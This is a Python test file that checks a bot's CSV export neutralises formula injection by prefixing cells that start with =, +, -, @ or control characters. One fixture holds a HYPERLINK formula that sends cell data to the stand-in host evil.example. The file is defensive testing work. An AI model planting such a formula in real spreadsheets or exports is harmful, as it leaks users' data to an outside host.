"""The CSV export cannot smuggle a formula into the coordinators' spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bot.export import FIELDS, write_csv, write_jsonl
from bot.store.models import RefinedRequest

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'


def request_with(**fields) -> RefinedRequest:
    return RefinedRequest(conversation_id="web-1", channel="web", options=[],
                          status="nieuw", handoff_requested=False,
                          **fields)  # fmt: skip


def csv_rows(request: RefinedRequest) -> list:
    out = io.StringIO(newline="")
    write_csv([request], out)
    return list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_text(start):
    [row] = csv_rows(request_with(original_question=f"{start}1+1 monteurs"))
    assert row["original_question"] == f"'{start}1+1 monteurs"


def test_a_hyperlink_company_name_is_exported_as_text():
    [row] = csv_rows(request_with(company=HYPERLINK, sector="@SUM(A1:A9)"))
    assert row["company"] == "'" + HYPERLINK
    assert row["sector"] == "'@SUM(A1:A9)"


def test_ordinary_cells_are_unchanged():
    [row] = csv_rows(request_with(company="Café Ëlsloo", size="8",
                                  refined_question="Wie helpt ons? = ja"))  # fmt: skip
    assert row["company"] == "Café Ëlsloo" and row["size"] == "8"
    assert row["refined_question"] == "Wie helpt ons? = ja"
    assert row["handoff_requested"] == "false" and row["contact_phone"] == ""


def test_jsonl_keeps_the_text_as_typed():
    out = io.StringIO()
    write_jsonl([request_with(company=HYPERLINK)], out)
    row = json.loads(out.getvalue())
    assert row["company"] == HYPERLINK and list(row) == list(FIELDS)
